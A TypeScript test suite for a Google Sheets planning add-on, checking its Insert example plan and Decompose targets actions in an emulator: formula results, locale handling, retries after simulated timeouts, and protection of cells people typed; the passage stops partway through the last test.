/**
 * Insert example plan and Decompose targets through the built bundle. The Targets tab holds formulas that the
 * emulator's HyperFormula recalculates; the results must equal shared/'s decomposition. Custom weights survive
 * rebuilds; a plan that cannot be decomposed gets a message, not an exception; calls do not grow with rows.
 */
import { describe, expect, it } from 'vitest';
import {
  chunkRows,
  WRITE_BYTES_PER_CALL,
  WRITE_ROWS_PER_CALL,
} from '../apps-script/server/decompose-targets';
import { toWorkbook } from '../emulator/index';
import type { FakeSheet } from '../emulator/spreadsheet';
import {
  dateToIso,
  decompose,
  exampleWorkbook,
  parsePlan,
  planProgress,
  STATUS_LABELS,
  tabDef,
  TARGETS_AS_OF,
  TARGETS_ATTAINMENT_FORMAT,
  TARGETS_SUMMARY_COLUMNS,
  type Lang,
  type Workbook,
} from '../shared';
import {
  loadAddon,
  planWithKeyResults,
  snapshot,
  valuesOf,
  zonedMidnight,
  type ActionResult,
} from './helpers/addon';
import { metricSpecs } from './helpers/metric-specs';
import type { PlanCheck } from '../apps-script/server/plan-check';
import type { QuickFixResult } from '../apps-script/server/quick-fix';

/** A colleague adds KR0 (a copy of the first key result) at the top of Key Results: every row below moves down. */
function addKeyResultAbove(run: ReturnType<typeof loadAddon>): FakeSheet {
  const kr = run.ss.getSheetByName('Key Results')!;
  const first = kr.getRange(2, 1, 1, kr.getLastColumn()).getValues()[0];
  kr.insertRowBefore(2);
  kr.getRange(2, 1, 1, first.length).setValues([['KR0', ...first.slice(1)]]);
  return kr;
}

/** Deletes the row whose first cell is `id`, as a person deletes a key result's row. */
function deleteRowOf(sheet: FakeSheet, id: string): void {
  sheet.deleteRow(
    sheet
      .getDataRange()
      .getValues()
      .findIndex((r) => r[0] === id) + 1,
  );
}

/** Every month cell of the Targets tab, as recalculated in the emulator, against shared/'s numbers. */
function compareWithShared(run: ReturnType<typeof loadAddon>, timeZone: string) {
  const workbook = toWorkbook(run.ss) as Workbook;
  const { plan } = parsePlan(workbook, { timeZone });
  const targets = plan.targets!;
  expect(targets).not.toBeNull();
  let compared = 0;
  const metrics = metricSpecs(plan);
  for (const { id, spec } of metrics) {
    const sheetValues = targets.computed[id].values;
    for (const { month, target } of decompose(spec, plan.period!.months)) {
      if (target === null) expect(sheetValues[month], `${id} ${month}`).toBeNull();
      else expect(sheetValues[month], `${id} ${month}`).toBeCloseTo(target, 9);
      compared++;
    }
  }
  return { compared, plan };
}

describe('Insert example plan', () => {
  for (const [locale, lang, timeZone] of [
    ['en_US', 'en', 'America/New_York'],
    ['zh_CN', 'zh-CN', 'Asia/Shanghai'],
    ['zh_TW', 'zh-TW', 'Asia/Taipei'],
  ] as [string, Lang, string][]) {
    it(`fills an empty spreadsheet and decomposes it: recalculated formulas equal shared (${locale}, ${timeZone})`, () => {
      const run = loadAddon({ locale, timeZone });
      const result = run.run('insertExamplePlan') as ActionResult;
      expect(result.ok, result.message).toBe(true);
      const { compared, plan } = compareWithShared(run, timeZone);
      expect(compared).toBe((5 + 3) * 12);
      expect(plan.lang).toBe(lang);
      // Dates went in as days of the spreadsheet's time zone.
      expect(plan.period).toMatchObject({ start: '2026-01-01', end: '2026-12-31' });
      expect(plan.keyResults[0]).toMatchObject({ start: '2026-03-01', due: '2026-08-31' });

      const name = tabDef('targets').label[lang];
      const sheet = run.ss.getSheetByName(name)!;
      // Month headers: dates shown as yyyy-mm; months are formulas.
      const header = sheet.getRange(1, 5, 1, 12);
      expect(header.getNumberFormats()[0].every((f) => f === 'yyyy-mm')).toBe(true);
      expect(header.getDisplayValues()[0][0]).toBe('2026-01');
      expect(header.getValues()[0][0]).toBeInstanceOf(Date);
      expect(sheet.getRange(2, 5).getFormula()).toMatch(/^=IF\(/);
      // KR1 (USD 1m, over by August): to-date columns after the months.
      const kr1 = sheet.getRange(2, 17, 1, 4).getValues()[0];
      expect(kr1[0]).toBeCloseTo(1_000_000, 6);
      expect(kr1[1]).toBe(920_000);
      expect(kr1[2]).toBeCloseTo(0.92, 9);
      // Attainment with one decimal: 99.6% short of the target never shows "100%" beside "missed".
      expect(sheet.getRange(2, 19).getNumberFormat()).toBe(TARGETS_ATTAINMENT_FORMAT);
      expect(sheet.getFrozenRows()).toBe(1);
      expect(sheet.getConditionalFormatRules().length).toBeGreaterThan(0);
    });
  }

  it('refuses, changing nothing, when a plan tab already holds data', () => {
    const run = loadAddon({
      workbook: {
        'Key Results': [
          ['ID', 'Key result'],
          ['MY1', 'Mine'],
        ],
      },
    });
    const before = snapshot(run.ss);
    const result = run.run('insertExamplePlan') as ActionResult;
    expect(result.ok).toBe(false);
    expect(result.message).toContain('Key Results');
    expect(snapshot(run.ss)).toEqual(before);
    expect(run.emulator.ui.alerts[0].prompt).toBe(result.message);
  });

  it('goes into template tabs that hold only their headers', () => {
    const run = loadAddon();
    run.run('insertTemplates');
    const result = run.run('insertExamplePlan') as ActionResult;
    expect(result.ok, result.message).toBe(true);
    compareWithShared(run, 'Etc/UTC');
    // A second attempt finds data and refuses.
    expect((run.run('insertExamplePlan') as ActionResult).ok).toBe(false);
  });

  /** A run whose `nth` write of the example's rows fails (after the writes Insert templates makes). */
  const stoppedAtRows = (nth: number, options: Parameters<typeof loadAddon>[0] = {}) => {
    const probe = loadAddon(options);
    probe.emulator.resetCalls();
    probe.run('insertTemplates');
    const templateWrites = (probe.emulator.calls.byMethod as Record<string, number>)['Range.setValues'];
    const run = loadAddon(options);
    run.emulator.failCall(
      'Range.setValues',
      templateWrites + nth,
      'Service Spreadsheets timed out while accessing document.',
    );
    return { run, failed: run.run('insertExamplePlan') as ActionResult };
  };

  // QA: a write timed out after Strategy and Departments were filled; the alert said only "did not finish", and a
  // retry refused because "Strategy, Departments already hold data": the add-on's own half-written example.
  it('a retry finishes the example a stopped run left half-written, as one uninterrupted run', () => {
    const clean = loadAddon();
    clean.run('insertExamplePlan');
    const { run, failed } = stoppedAtRows(4);
    // Strategy, Departments and Objectives hold the example's rows; Key Results and the rest only their headers.
    expect(valuesOf(run.ss, 'Objectives')).toEqual(valuesOf(clean.ss, 'Objectives'));
    expect(valuesOf(run.ss, 'Key Results')).toHaveLength(1);
    expect(run.ss.getSheetByName('Targets')).toBeNull();
    const retry = run.run('insertExamplePlan') as ActionResult;
    expect(retry.ok, retry.message).toBe(true);
    expect(snapshot(run.ss)).toEqual(snapshot(clean.ss));
    compareWithShared(run, 'Etc/UTC');
    expect(retry.message).toBe(
      [
        'Finished the example plan (GEO Monitor: AI search optimisation monitoring) that an earlier run had left unfinished; the rows it had written were kept as they were.',
        'Added its rows to: Key Results, KPIs, Roadmap, Actuals, Changes.',
        'Rebuilt "Targets": 5 key results and 3 KPIs over 12 months (2026-01 – 2026-12), as formulas that follow the plan tabs.',
      ].join('\n'),
    );
    // The failure alert said what is in the spreadsheet and that running it again finishes it.
    expect(failed.ok).toBe(false);
    expect(failed.message).toBe(
      [
        'Insert example plan did not finish (Service Spreadsheets timed out while accessing document.).',
        "The example's rows are in: Strategy, Departments, Objectives. The other tabs have only their headers so far, and the targets are not decomposed yet.",
        'Nothing you typed was changed. Run Insert example plan again to finish it: it recognises the rows it already wrote and adds the rest.',
      ].join('\n'),
    );
    expect(run.emulator.ui.alerts[0].prompt).toBe(failed.message);
    // Once it is all there, another run changes nothing and says so.
    const done = snapshot(run.ss);
    expect((run.run('insertExamplePlan') as ActionResult).message).toBe(
      'The example plan (GEO Monitor: AI search optimisation monitoring) is already in this spreadsheet, with its targets decomposed. Nothing was changed.',
    );
    expect(snapshot(run.ss)).toEqual(done);
  });

  it('never completes a half-written example over what the person typed or changed in it', () => {
    const options = { locale: 'zh_TW', timeZone: 'Asia/Taipei', userLocale: 'zh_TW' };
    for (const edit of [
      // A row of their own on a tab the stopped run had not reached.
      (ss: ReturnType<typeof loadAddon>['ss']) => ss.getSheetByName('KPI')!.getRange('A2').setValue('MY1'),
      // A cell of the example's rows changed.
      (ss: ReturnType<typeof loadAddon>['ss']) =>
        ss.getSheetByName('部門')!.getRange('B2').setValue('我們的'),
      // A cell of the example's rows cleared.
      (ss: ReturnType<typeof loadAddon>['ss']) => ss.getSheetByName('部門')!.getRange('A3').setValue(''),
    ]) {
      const { run, failed } = stoppedAtRows(3, options);
      expect(failed.message).toContain('範例的列已寫入：策略、部門。');
      edit(run.ss);
      const before = snapshot(run.ss);
      const retry = run.run('insertExamplePlan') as ActionResult;
      expect(retry.ok).toBe(false);
      expect(retry.message).toMatch(/^以下工作表已有資料，因此未插入範例計畫：(KPI|部門)。/);
      expect(snapshot(run.ss)).toEqual(before);
    }
  });

  it('a retry in a zh_TW spreadsheet after the first write failed inserts the Traditional Chinese example', () => {
    // The stopped run left only an empty 策略 tab, named alike in both scripts: no Simplified Chinese plan.
    const options = { locale: 'zh_TW', timeZone: 'Asia/Taipei', userLocale: 'zh_TW' };
    const run = loadAddon(options);
    run.emulator.failCall('Range.setValues', 1, 'Service error');
    const failed = run.run('insertExamplePlan') as ActionResult;
    expect((run.run('insertExamplePlan') as ActionResult).ok).toBe(true);
    const clean = loadAddon(options);
    clean.run('insertExamplePlan');
    expect(snapshot(run.ss)).toEqual(snapshot(clean.ss));
    expect(valuesOf(run.ss, '策略')[0]).toEqual(['欄位', '內容']);
    expect(failed.message).toBe(
      [
        '「插入範例計畫」未完成（Service error）。',
        '它在設定範本工作表（「策略」）時中斷，尚未寫入範例的任何列。',
        '你輸入的內容均未被修改。請再執行一次「插入範例計畫」來完成：它會辨識自己已寫入的列，並補上其餘部分。',
      ].join('\n'),
    );
  });

  it('a retry after a failure at any step ends as one uninterrupted run', () => {
    const options = { recalculation: 'never' as const };
    const clean = loadAddon(options);
    clean.emulator.resetCalls();
    clean.run('insertExamplePlan');
    const want = snapshot(clean.ss);
    const calls = clean.emulator.calls.byMethod as Record<string, number>;
    const steps = Object.keys(calls).filter((m) =>
      /^(Range|Sheet|Spreadsheet|Protection)\.(set|protect|insert)/.test(m),
    );
    expect(steps.length).toBeGreaterThanOrEqual(10);
    for (const method of steps) {
      for (const nth of new Set([1, calls[method]])) {
        const run = loadAddon(options);
        run.emulator.failCall(method, nth, 'Service error');
        const failed = run.run('insertExamplePlan') as ActionResult;
        expect(failed.ok, `${method} #${nth}`).toBe(false);
        const retry = run.run('insertExamplePlan') as ActionResult;
        expect(retry.ok, `${method} #${nth}: ${retry.message}`).toBe(true);
        expect(snapshot(run.ss), `${method} #${nth}`).toEqual(want);
      }
    }
  });

  it('grows a template tab that is smaller than the example, rather than stopping halfway', () => {
    const run = loadAddon();
    run.run('insertTemplates');
    // Someone deleted the empty rows of Actuals: five rows are left, the example has more check-ins.
    const actuals = run.ss.getSheetByName('Actuals')!;
    actuals.deleteRows(6, actuals.getMaxRows() - 5);
    const result = run.run('insertExamplePlan') as ActionResult;
    expect(result.ok, result.message).toBe(true);
    compareWithShared(run, 'Etc/UTC');
    expect(valuesOf(run.ss, 'Actuals').length - 1).toBe(parsePlan(exampleWorkbook('en')).plan.actuals.length);
  });
});

/** The example plan with KR2 on custom phasing, decomposed: the Targets tab and KR2's weights row (1-based). */
function exampleWithCustomKr2() {
  const run = loadAddon();
  run.run('insertExamplePlan');
  run.ss.getSheetByName('Key Results')!.getRange(3, 12).setValue('custom');
  expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
  const targets = run.ss.getSheetByName('Targets')!;
  const weightsRow = valuesOf(run.ss, 'Targets').findIndex((r) => r[0] === 'KR2' && r[1] === 'weights') + 1;
  expect(weightsRow).toBeGreaterThan(0);
  return { run, targets, weightsRow };
}

describe('Decompose targets', () => {
  it('keeps custom weights across rebuilds and uses them', () => {
    const { run, targets, weightsRow } = exampleWithCustomKr2();
    // The person types weights for March to December (columns G..P): twice as much in the autumn.
    targets.getRange(weightsRow, 7, 1, 10).setValues([[1, 1, 1, 1, 1, 1, 2, 2, 2, 2]]);
    const second = run.run('decomposeTargets') as ActionResult;
    expect(second.message).toContain('KR2');
    const after = valuesOf(run.ss, 'Targets');
    const row = after.findIndex((r) => r[0] === 'KR2' && r[1] === 'weights');
    expect(after[row].slice(6, 16)).toEqual([1, 1, 1, 1, 1, 1, 2, 2, 2, 2]);
    const { plan } = compareWithShared(run, 'Etc/UTC');
    expect(plan.targets!.computed.KR2.values['2026-12']).toBe(50_000 - Math.round(50_000 * (12 / 14)));
    // And a third rebuild is identical.
    const once = snapshot(run.ss);
    run.run('decomposeTargets');
    expect(snapshot(run.ss)).toEqual(once);
  });

  it('names, with their values, the custom weights a rebuild has no cell for: months left out of the period, an ID gone', () => {
    const { run, targets, weightsRow } = exampleWithCustomKr2();
    // Weights for January to April (columns E..H).
    targets.getRange(weightsRow, 5, 1, 4).setValues([[1, 2, 3, 'x']]);
    // The period now starts in March: January's and February's weights have no column any more.
    run.ss.getSheetByName('Strategy')!.getRange(9, 2).setValue(zonedMidnight('2026-03-01', 'Etc/UTC'));
    const later = run.run('decomposeTargets') as ActionResult;
    expect(later.ok).toBe(true);
    expect(later.message).toContain(
      'Custom weights not kept, to type again where they belong: KR2, months outside the period: 2026-01: 1, 2026-02: 2. (File > Version history has the old rows.)',
    );
    // KR2 renamed: its row (March's 3 and April's "x" still there) has no key result now; KR-2 gets a new one.
    run.ss.getSheetByName('Key Results')!.getRange(3, 1).setValue('KR-2');
    const renamed = run.run('decomposeTargets') as ActionResult;
    expect(renamed.ok).toBe(true);
    expect(renamed.message).toContain(
      'KR2 (no weights row now: its ID, type or phasing changed, or it was deleted): 2026-03: 3, 2026-04: x.',
    );
    // Nothing is said when every weight has its cell.
    const again = run.run('decomposeTargets') as ActionResult;
    expect(again.message).not.toContain('not kept');
  });

  it("gives the same sheet with the emulator's recalculation deferred to the next read (the bench's mode)", () => {
    const now = loadAddon();
    const deferred = loadAddon({ recalculation: 'onRead' });
    for (const run of [now, deferred]) {
      run.run('insertExamplePlan');
      run.ss.getSheetByName('Key Results')!.getRange(3, 12).setValue('custom');
      run.run('decomposeTargets');
    }
    expect(snapshot(deferred.ss)).toEqual(snapshot(now.ss));
    expect(deferred.emulator.calls.byMethod).toEqual(now.emulator.calls.byMethod);
  });

  it('recalculates when a target changes, without a rebuild', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    run.ss.getSheetByName('Key Results')!.getRange(3, 9).setValue(60_000);
    const { plan } = compareWithShared(run, 'Etc/UTC');
    expect(plan.targets!.computed.KR2.values['2026-03']).toBe(6_000);
  });

  it('explains, without an exception, what stops it: no period, a bad date, no plan', () => {
    const run = loadAddon();
    run.run('insertTemplates');
    const noPeriod = run.run('decomposeTargets') as ActionResult;
    expect(noPeriod.ok).toBe(false);
    expect(noPeriod.message).toContain('The plan period is not set.');
    run.ss
      .getSheetByName('Strategy')!
      .getRange(9, 2, 2, 1)
      .setValues([['next spring'], [zonedMidnight('2026-12-31', 'Etc/UTC')]]);
    const badDate = run.run('decomposeTargets') as ActionResult;
    expect(badDate.ok).toBe(false);
    expect(badDate.message).toContain(
      '• Strategy!B9: Period start of Strategy is "next spring", which is not a date.',
    );
    expect(run.emulator.ui.alerts.at(-1)!.prompt).toBe(badDate.message);

    const empty = loadAddon({ userLocale: 'zh_CN' });
    const none = empty.run('decomposeTargets') as ActionResult;
    expect(none.ok).toBe(false);
    expect(none.message).toContain('插入模板');
  });

  it("leaves a team's own tab named Targets as it is, and says to rename it (no user cell overwritten)", () => {
    const workbook = planWithKeyResults(5);
    workbook['Targets'] = [
      ['Rep', 'Q1 quota', 'Q2 quota'],
      ['Alice', 120000, 130000],
    ];
    const run = loadAddon({ workbook });
    const before = valuesOf(run.ss, 'Targets');
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok).toBe(false);
    expect(result.message).toBe(
      'The tab "Targets" holds something other than the generated targets (its first row is not their header), so it was left as it is. Rename that tab, then run Decompose targets again.',
    );
    expect(valuesOf(run.ss, 'Targets')).toEqual(before);
    // Renamed, it is left alone, and the generated tab is made beside it.
    run.ss.getSheetByName('Targets')!.setName('Quotas');
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    expect(valuesOf(run.ss, 'Quotas')).toEqual(before);
    expect(valuesOf(run.ss, 'Targets')[0][0]).toBe('ID');
  });

  it('never clears what someone typed beside the generated table (a comment column, a total row): it names the cells', () => {
    const run = loadAddon({ workbook: planWithKeyResults(5), recalculation: 'never' });
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
    const tab = run.ss.getSheetByName('Targets')!;
    const [lastRow, lastColumn] = [tab.getLastRow(), tab.getLastColumn()];
    tab.insertColumnsAfter(lastColumn, 1);
    tab.insertRowsAfter(lastRow, 2);
    tab.getRange(1, lastColumn + 1, 2, 1).setValues([['Comment'], ['Board asked to stretch KR1']]);
    tab.getRange(lastRow + 2, 1, 1, 2).setValues([['Total sales', '=SUM(E2:E3)']]);
    const before = valuesOf(run.ss, 'Targets');
    const again = run.run('decomposeTargets') as ActionResult;
    expect(again.ok).toBe(false);
    const column = tab
      .getRange(1, lastColumn + 1)
      .getA1Notation()
      .replace('1', '');
    expect(again.details).toEqual({
      handTyped: [`A${lastRow + 2}`, `B${lastRow + 2}`, `${column}1:${column}2`],
    });
    expect(again.message).toContain(
      'Move it to another tab, then run Decompose targets again. Nothing was changed.',
    );
    expect(valuesOf(run.ss, 'Targets')).toEqual(before);
    // Moved away, the rebuild goes ahead. (Weights typed on the weights rows and the tab's own cells are its own.)
    tab.getRange(1, lastColumn + 1, 2, 1).clearContent();
    tab.getRange(lastRow + 2, 1, 1, 2).clearContent();
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
  });

  it('never clears a title typed above the header, nor what is typed where the tab leaves cells blank', () => {
    const { run, targets: tab, weightsRow } = exampleWithCustomKr2();
    const header = valuesOf(run.ss, 'Targets')[0] as unknown[];
    const asOf = header.indexOf(TARGETS_AS_OF.label.en) + 1;
    const status = header.indexOf('Status') + 1;
    const letter = (column: number) => tab.getRange(1, column).getA1Notation().replace('1', '');
    // A note under the As of date, and one in the Status cell of a weights row (both blank as generated).
    tab.getRange(4, asOf).setValue('next review 2026-12-15');
    tab.getRange(weightsRow, status).setValue('weights agreed with Marketing');
    let before = valuesOf(run.ss, 'Targets');
    const blanks = run.run('decomposeTargets') as ActionResult;
    expect(blanks.ok).toBe(false);
    expect(blanks.details).toEqual({ handTyped: [`${letter(status)}${weightsRow}`, `${letter(asOf)}4`] });
    expect(valuesOf(run.ss, 'Targets')).toEqual(before);
    tab.getRange(4, asOf).clearContent();
    tab.getRange(weightsRow, status).clearContent();
    // A title typed in a row inserted above the header.
    tab.insertRowsBefore(1, 1);
    tab.getRange(1, 1).setValue('FY2026 targets, board version');
    before = valuesOf(run.ss, 'Targets');
    const title = run.run('decomposeTargets') as ActionResult;
    expect(title.ok).toBe(false);
    expect(title.details).toEqual({ handTyped: ['A1'] });
    expect(valuesOf(run.ss, 'Targets')).toEqual(before);
  });

  it('names, of the missing tabs, only those its formulas read (Strategy for the period, Key Results)', () => {
    const { 'Key Results': keyResults } = exampleWorkbook('en');
    const run = loadAddon({ workbook: { 'Key Results': keyResults } as never });
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok).toBe(false);
    expect(result.message).toContain('• Strategy: The "Strategy" tab is missing.');
    expect(result.message).not.toMatch(/Objectives|Departments|Actuals/);
  });

  it('names the Targets tab renamed ("Targets FY26") rather than making a second one beside it', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    run.ss.getSheetByName('Targets')!.setName('Targets FY26');
    const tabs = run.ss.getSheets().map((s) => s.getName());
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result).toMatchObject({
      ok: false,
      message:
        'The targets are on the tab "Targets FY26" (its As of cell is there), not on a tab named "Targets": rename "Targets FY26" back to "Targets", then run Decompose targets again. Nothing was changed.',
    });
    expect(run.ss.getSheets().map((s) => s.getName())).toEqual(tabs);
    // Deleted rather than renamed: a new tab is made.
    run.ss.deleteSheet(run.ss.getSheetByName('Targets FY26')!);
    expect((run.run('decomposeTargets') as ActionResult).ok).toBe(true);
  });

  it('turns a bad value in a plan cell into a message, not an exception', () => {
    const run = loadAddon();
    run.run('insertExamplePlan');
    run.ss.getSheetByName('Key Results')!.getRange(2, 9).setValue('a lot');
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok).toBe(true);
    // Said with the cell to look at: a Target the formulas compute with, so named as a cell that breaks the tab.
    expect(result.message).toContain(
      'The formulas on "Targets" cannot read these cells of the plan as they are typed, so the rows that read them may show errors or wrong figures:\n• Key Results!I2: ',
    );
    expect(result.message).not.toMatch(/Problems found|Other problems/);
    expect(result.details).toMatchObject({ formulaBreakers: ['Key Results!I2'], planErrors: 0 });
    // Other errors are counted after it, as Check plan lists them: KR2's ID cleared, and the three references to KR2.
    run.ss.getSheetByName('Key Results')!.getRange(3, 1).setValue('');
    const again = run.run('decomposeTargets') as ActionResult;
    expect(again.message).toContain(
      'Other problems found in the plan: 4 (first at Key Results!A3, KPIs!D4, Roadmap!G3, …); open Check plan to see them.',
    );
    expect(run.emulator.logs.filter((l) => /Error|Exception/.test(l.message))).toEqual([]);
  });

  // QA (zh-TW): a plan typed by hand, its period typed as text (2026/1/1, and 115/12/31 in the Minguo calendar).
  // Every status on the Targets tab read #VALUE!, yet the alert named only a check-in's grouped-in-fours error
  // (實際!C5), never the period cells.
  it('names the cells that break the Targets tab first, the period above all, then counts the other problems', () => {
    const run = loadAddon({ locale: 'zh_TW', timeZone: 'Asia/Taipei' });
    run.run('insertTemplates');
    const sheet = (name: string) => run.ss.getSheetByName(name)!;
    const put = (name: string, rows: unknown[][]) =>
      sheet(name).getRange(2, 1, rows.length, rows[0].length).setValues(rows);
    const strategy = sheet('策略');
    const fields = strategy
      .getDataRange()
      .getValues()
      .map((r) => r[0]);
    const set = (field: string, value: string) =>
      strategy.getRange(fields.indexOf(field) + 1, 2).setValue(value);
    set('產品', '雲端記帳 App');
    set('週期開始', '2026/1/1');
    set('週期結束', '115/12/31');
    set('貨幣', 'TWD');
    expect(fields.indexOf('週期開始') + 1).toBe(9);
    put('部門', [
      ['行銷部', '林經理', ''],
      ['業務部', '陳經理', ''],
      ['客服部', '王經理', ''],
    ]);
    put('目標', [['O1', '今年拿下 1,000 家中小企業客戶', '業務部', '', '', '', '']]);
    put('關鍵結果', [
      [
        'KR1',
        'O1',
        '年度營收 1,200 萬',
        '業務',
        '累計',
        '元',
        '提升',
        0,
        '1,200萬',
        '2026/3/1',
        '115/12/31',
        '逐步提升',
        1,
        0.7,
      ],
      [
        'KR２',
        'O1',
        '試用註冊 5 萬',
        '行銷部',
        '累計',
        '人',
        '提升',
        0,
        '5萬',
        '2026-03',
        '2026-12',
        '自訂',
        1,
        0.8,
      ],
      [
        'KR3',
        'o1',
        '客服滿意度',
        '客服',
        '水準',
        '%',
        '提升',
        '5%',
        '20%',
        '2026-03-01',
        '2026-12-31',
        '平均',
        1,
        0.5,
      ],
    ]);
    put('KPI', [['KPI1', '首次回應時間', '客服部', 'KR3', '小時', '降低', 1, '每月']]);
    put('實際', [
      ['2026/3/31', 'KR1', '120,000', ''],
      ['2026/4/30', 'KR1', '25萬', ''],
      ['2026/3/31', 'KR2', 4000, ''],
      ['2026/4/30', 'KR２', '5,0000', ''],
      ['2026/4/30', 'KR3', '8%', ''],
      ['2026/4/30', 'KPI1', '1.5 小時', ''],
    ]);
    const result = run.run('decomposeTargets') as ActionResult;
    expect(result.ok).toBe(true);
    // The tab is broken indeed: every status an error.
    const targets = valuesOf(run.ss, '目標分解');
    const status = targets[0].indexOf('狀態');
    const statuses = targets
      .slice(1)
      .filter((r) => r[1] === '目標值')
      .map((r) => r[status]);
    expect(statuses).toEqual(['#VALUE!', '#VALUE!', '#VALUE!', '#VALUE!']);
    const lines = result.message.split('\n');
    expect(lines[1]).toBe(
      '「目標分解」表的公式無法按原樣讀取計畫中的這些儲存格。首先是計畫週期：凡是按週期計算月份的列（關鍵結果沒有自己的開始或截止日期時）都可能出錯，直到週期改為以日期輸入。',
    );
    expect(lines[2]).toBe(
      '• 策略!B9：策略：週期開始填寫的是文字「2026/1/1」，「目標分解」表的公式無法像計畫那樣使用它（2026-01-01），該表中相應的數字會出錯。在該儲存格中改為輸入 2026-01-01。',
    );
    expect(lines[3]).toMatch(/^• 策略!B10：.*「115\/12\/31」.*改為輸入 2026-12-31。$/);
    expect(lines.slice(4, 7).map((l) => l.split('：')[0])).toEqual([
      '• 關鍵結果!I2',
      '• 關鍵結果!J2',
      '• 關鍵結果!K2',
    ]);
    const breakers = (result.details as { formulaBreakers: string[] }).formulaBreakers;
    expect(breakers.slice(0, 2)).toEqual(['策略!B9', '策略!B10']);
    expect(lines[7]).toBe(`……另有 ${breakers.length - 5} 個這樣的儲存格：請開啟「檢查計畫」逐一修正。`);
    // Then the other problems, the errors Check plan lists (the owners 行銷部 and 客服 too, not only what reading
    // the plan found: the check-in typed 5,0000).
    expect(lines[8]).toBe(
      '計畫中另有 3 個問題（從 關鍵結果!D2、關鍵結果!D4、實際!C5 開始）；請開啟「檢查計畫」檢視。',
    );
    expect(lines).toHaveLength(9);
    // The cells named are those the check lists as unreadable by the formulas, now that the tab is there.
    const check = run.project.callFromClient('getPlanCheck', 'zh-TW') as PlanCheck;
    expect(
      check.groups
        .flatMap((g) => g.issues)
        .filter((i) => i.severity === 'error' && !breakers.includes(`${i.sheet}!${i.a1}`))
        .map((i) => `${i.sheet}!${i.a1}`),
    ).toEqual(['關鍵結果!D2', '關鍵結果!D4', '實際!C5']);
    const unreadable = check.groups
      .flatMap((g) => g.issues)
      .filter((i) => i.code === 'unreadable-by-formulas')
      .map((i) => `${i.sheet}!${i.a1}`);
    expect([...breakers].sort()).toEqual([...unreadable].sort());
  });

  // QA: with a plain 1 typed as KR3's latest check-in (percent-one: "This value is not counted"), the rebuilt tab's
  // formulas counted it (KR3 done) and the alert said nothing; with six errors in Check plan, it counted the two found
  // while reading the plan, and said a roadmap status "may show as errors in the formulas".
  it('names the check-ins its formulas count that the plan does not, and counts the errors Check plan lists', () => {
    const run = loadAddon({ locale: 'en_US', timeZone: 'Asia/Taipei' });
    run.run('insertExamplePlan');
    const sheet = (name: string) => run.ss.getSheetByName(name)!;
    sheet('Actuals').getRange('C23').setValue(1);
    const result = run.run('decomposeTargets') as ActionResult;
    const lines = result.message.split('\n');
    expect(lines.slice(1)).toEqual([
      'The formulas on "Targets" count check-ins the plan does not: Actuals!C23 (KR3). Fix them there and the tab follows.',
    ]);
    // Said because it is so: the tab counts the 1 as 100%, which the plan refuses.
    const targets = valuesOf(run.ss, 'Targets');
    const kr3 = targets.find((r) => r[0] === 'KR3' && r[1] === 'target')!;
    expect([kr3[targets[0].indexOf('Current value')], kr3[targets[0].indexOf('Status')]]).toEqual([
      1,
      'done',
    ]);
    const errorsOf = (check: PlanCheck) =>
      check.groups.flatMap((g) => g.issues).filter((i) => i.severity === 'error');
    expect(
      errorsOf(run.project.callFromClient('getPlanCheck') as PlanCheck).map((i) => [i.code, i.a1]),
    ).toEqual([['percent-one', 'C23']]);

    // Six errors: the two check-ins named, the four others counted as Check plan lists them, none said to touch a formula.
    sheet('Key Results').getRange('D2').setValue('Saels');
    sheet('Key Results').getRange('M3').setValue('2x');
    sheet('Key Results').getRange('D4').setValue('Growth');
    sheet('Roadmap').getRange('H10').setValue('取消');
    sheet('Actuals').getRange('C17').setValue(8);
    const again = run.run('decomposeTargets') as ActionResult;
    const errors = errorsOf(run.project.callFromClient('getPlanCheck') as PlanCheck).map(
      (i) => `${i.sheet}!${i.a1}`,
    );
    expect(errors).toHaveLength(6);
    expect(again.message.split('\n').slice(1)).toEqual([
      'The formulas on "Targets" count check-ins the plan does not: Actuals!C17 (KR3), Actuals!C23 (KR3). Fix them there and the tab follows.',
      `Other problems found in the plan: 4 (first at ${errors
        .filter((c) => !/^Actuals/.test(c))
        .slice(0, 3)
        .join(', ')}, …); open Check plan to see them.`,
    ]);
    expect(again.details).toMatchObject({ planErrors: 4 });
  });

  it('gives the same numbers in a de_DE spreadsheet (";" between arguments) as in an en_US one', () => {
    const grids = (['en_US', 'de_DE'] as const).map((locale) => {
      const run = loadAddon({ locale, timeZone: 'Europe/Berlin' });
      expect((run.run('insertExamplePlan') as ActionResult).ok).toBe(true);
      compareWithShared(run, 'Europe/Berlin');
      const sheet = run.ss.getSheetByName('Targets')!;
      const formulas = sheet.getDataRange().getFormulas().flat().filter(Boolean);
      return { values: valuesOf(run.ss, 'Targets'), formulas };
    });
    expect(grids[1].values).toEqual(grids[0].values);
    // No error cell anywhere, and the formulas are written with ';' (shown in each locale's own syntax).
    expect(grids[1].values.flat().filter((v) => typeof v === 'string' && v.startsWith('#'))).toEqual([]);
    expect(grids[1].formulas.some((f) => f.includes(';'))).toBe(true);
    expect(grids[0].formulas.every((f) => !f.includes(';'))).toBe(true);
  });

  it('judges the to-date columns as of the named as-of cell: today, or a review date typed over it', () => {
    const run = loadAddon({ timeZone: 'Asia/Shanghai' });
    const result = run.run('insertExamplePlan') as ActionResult;
    expect(result.ok, result.message).toBe(true);
    const asOf = run.ss.getRangeByName(TARGETS_AS_OF.name)!;
    expect(asOf.getSheet().getName()).toBe('Targets');
    // Decompose set it to today in the spreadsheet's time zone.
    const today = dateToIso(new Date(), 'Asia/Shanghai');
    expect(dateToIso(asOf.getValue() as Date, 'Asia/Shanghai')).toBe(today);
    // A review date typed over it: the to-date columns follow, equal to progress as of that day.
    asOf.setValue(zonedMidnight('2026-06-15', 'Asia/Shanghai'));
    const workbook = toWorkbook(run.ss) as Workbook;
    const { plan } = parsePlan(workbook, { timeZone: 'Asia/Shanghai' });
    const progress = planProgress(plan, '2026-06-15');
    const rows = valuesOf(run.ss, 'Targets');
    const header = rows[0] as unknown[];
